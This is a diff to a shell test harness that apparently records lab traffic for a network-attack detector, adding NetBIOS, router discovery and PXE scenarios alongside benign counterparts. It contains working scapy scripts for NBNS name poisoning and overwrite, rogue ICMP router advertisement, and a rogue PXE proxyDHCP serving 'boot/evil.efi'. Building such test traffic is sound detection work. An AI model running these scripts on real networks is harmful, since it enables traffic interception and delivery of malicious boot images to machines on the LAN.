@@ -4500,6 +4500,230 @@ scn_benign_smb_backup_stale_password_5_servers() {
 	done
 	spray_down
 }
+# NetBIOS name service (RFC 1001/1002) on UDP 137 for session 42's det43
+# (review 42 P9): nbns.py is a B node's name service with a socket, as nmbd
+# and Windows run it: "own NAME IP" registers NAME<00> and <20> by broadcast,
+# answers queries for them and refuses others' registrations of them
+# (ACT_ERR); "query NAME N" asks for NAME<20> by broadcast N times, 2 s apart;
+# "register NAME IP" registers NAME<20> once and gives in when refused.
+cat >"$tmp/nbns.py" <<'EOF'
+import socket, struct, sys, time
+def enc(n, suf):
+    raw = n.upper().ljust(15)[:15].encode() + bytes([suf])
+    return bytes([32]) + bytes(c for b in raw for c in (0x41 + (b >> 4), 0x41 + (b & 15))) + b"\0"
+def rr(name, addr, ttl=300000):
+    return name + struct.pack(">HHIH", 0x20, 1, ttl, 6) + b"\0\0" + socket.inet_aton(addr)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
+s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("", 137))
+bcast = ("10.88.8.255", 137)
+mode, name = sys.argv[1], sys.argv[2]
+if mode == "own":
+    me = sys.argv[3]
+    mine = {enc(name, 0), enc(name, 0x20)}
+    for i, n in enumerate(sorted(mine)):
+        s.sendto(struct.pack(">HHHHHH", 0x100 + i, 0x2910, 1, 0, 0, 1) + n + b"\0\x20\0\1\xc0\x0c" + struct.pack(">HHIH", 0x20, 1, 300000, 6) + b"\0\0" + socket.inet_aton(me), bcast)
+    while True:
+        b, (ip, port) = s.recvfrom(1500)
+        if ip == me or len(b) < 12 + 34:
+            continue
+        tid, flags = struct.unpack(">HH", b[:4])
+        q = b[12:12 + 34]
+        if flags & 0x8000 or q not in mine:
+            continue
+        op = (flags >> 11) & 15
+        if op == 0:
+            s.sendto(struct.pack(">HHHHHH", tid, 0x8500, 0, 1, 0, 0) + rr(q, me), (ip, port))
+        elif op in (5, 8, 9):
+            s.sendto(struct.pack(">HHHHHH", tid, 0xAD86, 0, 1, 0, 0) + rr(q, ip, 0), (ip, port))
+            print("refused", ip, flush=True)
+elif mode == "query":
+    s.settimeout(1.5)
+    for i in range(int(sys.argv[3])):
+        s.sendto(struct.pack(">HHHHHH", 0x4000 + i, 0x0110, 1, 0, 0, 0) + enc(name, 0x20) + b"\0\x20\0\1", bcast)
+        end = time.time() + 2
+        while time.time() < end:
+            try:
+                b, (ip, port) = s.recvfrom(1500)
+            except socket.timeout:
+                break
+            if len(b) >= 12 + 34 + 16 and b[2] & 0x80:
+                print("query", i, "answered by", ip, "at", socket.inet_ntoa(b[-4:]), flush=True)
+        time.sleep(max(0, end - time.time()))
+elif mode == "register":
+    me = sys.argv[3]
+    s.settimeout(0.25)
+    for i in range(3): # BCAST_REQ_RETRY_COUNT (RFC 1002 6), 250 ms apart, until refused
+        s.sendto(struct.pack(">HHHHHH", 0x700, 0x2910, 1, 0, 0, 1) + enc(name, 0x20) + b"\0\x20\0\1\xc0\x0c" + struct.pack(">HHIH", 0x20, 1, 300000, 6) + b"\0\0" + socket.inet_aton(me), bcast)
+        end, refused = time.time() + 0.25, False
+        while not refused and time.time() < end:
+            try:
+                b, (ip, port) = s.recvfrom(1500)
+            except socket.timeout:
+                break
+            if ip != me and b[2] & 0x80 and b[3] & 15:
+                print("refused by", ip, "rcode", b[3] & 15, "- giving in", flush=True)
+                refused = True
+        if refused:
+            break
+EOF
+# nbns_hijack.py (scapy, from evil): Responder's shape for one name. "answer
+# NAME SECONDS" answers every broadcast query for NAME<20> with evil's own
+# address; "overwrite NAME" registers NAME<20>, is refused by its owner,
+# then sends a NAME OVERWRITE DEMAND (RFC 1002 4.2.3: RD clear) anyway.
+cat >"$tmp/nbns_hijack.py" <<'EOF'
+import struct, sys, time
+from scapy.all import *
+conf.verb = 0
+mac, me = get_if_hwaddr("eth0"), get_if_addr("eth0")
+def enc(n, suf):
+    raw = n.upper().ljust(15)[:15].encode() + bytes([suf])
+    return bytes([32]) + bytes(c for b in raw for c in (0x41 + (b >> 4), 0x41 + (b & 15))) + b"\0"
+mode, name = sys.argv[1], sys.argv[2]
+q = enc(name, 0x20)
+rr = struct.pack(">HHIH", 0x20, 1, 300000, 6) + b"\0\0" + socket.inet_aton(me)
+if mode == "answer":
+    def hit(p):
+        b = bytes(p[UDP].payload)
+        if len(b) >= 46 and not b[2] & 0x80 and (b[2] >> 3) & 15 == 0 and b[12:46] == q and p[IP].src != me:
+            sendp(Ether(src=mac, dst=p[Ether].src) / IP(src=me, dst=p[IP].src) / UDP(sport=137, dport=p[UDP].sport) /
+                  Raw(b[:2] + struct.pack(">HHHHH", 0x8500, 0, 1, 0, 0) + q + rr), iface="eth0")
+    sniff(iface="eth0", filter="udp dst port 137", prn=hit, timeout=float(sys.argv[3]))
+else:
+    bc = Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / IP(src=me, dst="10.88.8.255") / UDP(sport=137, dport=137)
+    sendp(bc / Raw(struct.pack(">HHHHHH", 0x701, 0x2910, 1, 0, 0, 1) + q + b"\0\x20\0\1\xc0\x0c" + rr), iface="eth0")
+    time.sleep(2)
+    for i in range(3):
+        sendp(bc / Raw(struct.pack(">HHHHHH", 0x702 + i, 0x2810, 1, 0, 0, 1) + q + b"\0\x20\0\1\xc0\x0c" + rr), iface="eth0")
+        time.sleep(0.25)
+EOF
+nbns_owner_up() { spawn nas "$py" "$tmp/nbns.py" own FILESRV "$nas"; sleep 1; }
+nbns_owner_down() { killns nas nbns.py; }
+# The NAS owns FILESRV and answers for it; evil answers the PC's queries for
+# FILESRV with its own address too (both answer each).
+scn_nbns_hijack_owner_answers_scapy() {
+	nbns_owner_up
+	spawn evil "$py" "$tmp/nbns_hijack.py" answer FILESRV 20
+	sleep 2
+	inns pc "$py" "$tmp/nbns.py" query FILESRV 6
+	killns evil nbns_hijack.py
+	nbns_owner_down
+}
+# evil registers FILESRV<20>, the NAS refuses, evil overwrites it anyway;
+# the PC's queries before and after are answered by the NAS alone.
+scn_nbns_overwrite_after_refusal_scapy() {
+	nbns_owner_up
+	inns pc "$py" "$tmp/nbns.py" query FILESRV 2
+	inns evil "$py" "$tmp/nbns_hijack.py" overwrite FILESRV
+	inns pc "$py" "$tmp/nbns.py" query FILESRV 2
+	nbns_owner_down
+}
+# Ordinary NetBIOS: the NAS owns FILESRV and answers for it; PC2, set up
+# with the same name by mistake, registers it, is refused and gives in
+# (RFC 1001 15.2.2.1); the PC keeps asking and only the NAS answers.
+scn_benign_nbns_duplicate_name_refused() {
+	nbns_owner_up
+	inns pc "$py" "$tmp/nbns.py" query FILESRV 2
+	inns pc2 "$py" "$tmp/nbns.py" register FILESRV "$NET.11"
+	inns pc "$py" "$tmp/nbns.py" query FILESRV 4
+	nbns_owner_down
+}
+# ICMP router discovery (RFC 1256) for det43 (review 42 P10), scapy: evil
+# advertises itself as a default router (type 9 to 224.0.0.1, preference
+# 100, lifetime 1800 s) every 3 s, irdpresponder's shape, while the PC
+# solicits routers (type 10 to 224.0.0.2).
+cat >"$tmp/irdp.py" <<'EOF'
+import socket, struct, sys, time
+from scapy.all import *
+conf.verb = 0
+mac, me = get_if_hwaddr("eth0"), get_if_addr("eth0")
+args = sys.argv[1:]
+for i in range(4):
+    if args[0] == "adv":
+        # RFC 1256 3.1: type 9, code 0, checksum, number of addresses,
+        # entry size 2 (words), lifetime 1800 s; then address, preference.
+        body = struct.pack(">BBHBBH", 9, 0, 0, len(args) - 1, 2, 1800) + b"".join(socket.inet_aton(r) + struct.pack(">i", 100) for r in args[1:])
+        body = body[:2] + struct.pack(">H", checksum(body)) + body[4:]
+        sendp(Ether(src=mac, dst="01:00:5e:00:00:01") / IP(src=me, dst="224.0.0.1", ttl=1, proto=1) / Raw(body), iface="eth0")
+    else:
+        sendp(Ether(src=mac, dst="01:00:5e:00:00:02") / IP(src=me, dst="224.0.0.2", ttl=1) / ICMP(type=10, code=0), iface="eth0")
+    time.sleep(3)
+EOF
+irdp() { local h=$1; shift; inns "$h" "$py" "$tmp/irdp.py" "$@"; } # irdp HOST adv ROUTER... | solicit
+scn_irdp_rogue_router_scapy() {
+	irdp pc solicit & local sol=$!
+	irdp evil adv "$NET.66"
+	wait "$sol"
+}
+# Ordinary router discovery: the PC solicits, the gateway answers naming
+# itself (a router with IRDP on).
+scn_benign_irdp_gateway_answers_solicitations() {
+	irdp pc solicit & local sol=$!
+	irdp gw adv "$NET.1"
+	wait "$sol"
+}
+# PXE boot hijack for det43 (brief item 3): pxeclient.py (scapy) is a PXE
+# client's DISCOVER (option 60 PXEClient:Arch:00000:UNDI:002001, 93, 94,
+# 97) from the namespace's MAC, then 4 s of listening for OFFERs;
+# pxerogue.py (scapy) answers each PXE DISCOVER as a proxyDHCP naming
+# itself as boot server with its own boot file (yiaddr 0, siaddr, file,
+# option 60 PXEClient, option 43 sub-option 8).
+cat >"$tmp/pxeclient.py" <<'EOF'
+import sys, os
+from scapy.all import *
+conf.verb = 0
+mac = get_if_hwaddr("eth0")
+xid = int.from_bytes(os.urandom(4), "big")
+d = Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / IP(src="0.0.0.0", dst="255.255.255.255") / UDP(sport=68, dport=67) / \
+    BOOTP(chaddr=mac2str(mac), xid=xid, flags=0x8000) / DHCP(options=[("message-type", "discover"),
+    ("vendor_class_id", b"PXEClient:Arch:00000:UNDI:002001"), (93, b"\x00\x00"), (94, b"\x01\x02\x01"),
+    (97, b"\x00" + os.urandom(16)), ("param_req_list", [1, 3, 6, 43, 60, 66, 67]), "end"])
+for p in sniff(iface="eth0", filter="udp dst port 68", timeout=4, started_callback=lambda: sendp(d, iface="eth0")):
+    if BOOTP in p and p[BOOTP].xid == xid:
+        print("offer from", p[IP].src, "yiaddr", p[BOOTP].yiaddr, "siaddr", p[BOOTP].siaddr, "file", p[BOOTP].file.rstrip(b"\0"), flush=True)
+EOF
+cat >"$tmp/pxerogue.py" <<'EOF'
+import sys
+from scapy.all import *
+conf.verb = 0
+mac, me = get_if_hwaddr("eth0"), get_if_addr("eth0")
+def hit(p):
+    if DHCP not in p or p[BOOTP].op != 1:
+        return
+    o = dict(x for x in p[DHCP].options if isinstance(x, tuple))
+    if o.get("message-type") != 1 or not bytes(o.get("vendor_class_id", b"")).startswith(b"PXEClient"):
+        return
+    sub = b"\x06\x01\x08" + b"\x08\x07\x80\x00\x01" + socket.inet_aton(me) + b"\xff"
+    sendp(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / IP(src=me, dst="255.255.255.255") / UDP(sport=67, dport=68) /
+          BOOTP(op=2, xid=p[BOOTP].xid, yiaddr="0.0.0.0", siaddr=me, chaddr=p[BOOTP].chaddr, flags=0x8000, file=b"boot/evil.efi") /
+          DHCP(options=[("message-type", "offer"), ("server_id", me), ("vendor_class_id", b"PXEClient"), ("vendor_specific", sub), "end"]), iface="eth0")
+sniff(iface="eth0", filter="udp dst port 67", prn=hit, timeout=float(sys.argv[1]))
+EOF
+pxe_proxy_up() { # the NAS's dnsmasq as the LAN's PXE proxyDHCP (no DNS, no addresses)
+	spawn nas dnsmasq -k --port=0 --interface=eth0 --bind-interfaces --dhcp-range=$NET.0,proxy \
+		--pxe-service=x86PC,"Network boot",pxelinux --dhcp-leasefile="$tmp/nas.leases"
+	sleep 1
+}
+# The gateway's dnsmasq hands out addresses, the NAS's is the PXE proxy; a
+# PXE client (pc2) boots; then evil's rogue proxy starts and a second
+# client (pc) boots, answered by both proxies with different boot services.
+scn_pxe_rogue_proxydhcp_scapy() {
+	pxe_proxy_up
+	inns pc2 "$py" "$tmp/pxeclient.py"
+	spawn evil "$py" "$tmp/pxerogue.py" 12
+	sleep 2
+	inns pc "$py" "$tmp/pxeclient.py"
+	killns evil pxerogue.py
+	killns nas dnsmasq
+}
+# The same LAN without the rogue: two PXE clients boot through the NAS's proxy.
+scn_benign_pxe_proxydhcp_two_clients() {
+	pxe_proxy_up
+	inns pc2 "$py" "$tmp/pxeclient.py"
+	inns pc "$py" "$tmp/pxeclient.py"
+	killns nas dnsmasq
+}
 all=$(declare -F | awk '{print $3}' | grep '^scn_' | sed 's/^scn_//')
 for s in ${@:-$all}; do
 	record "$s" "scn_$s"
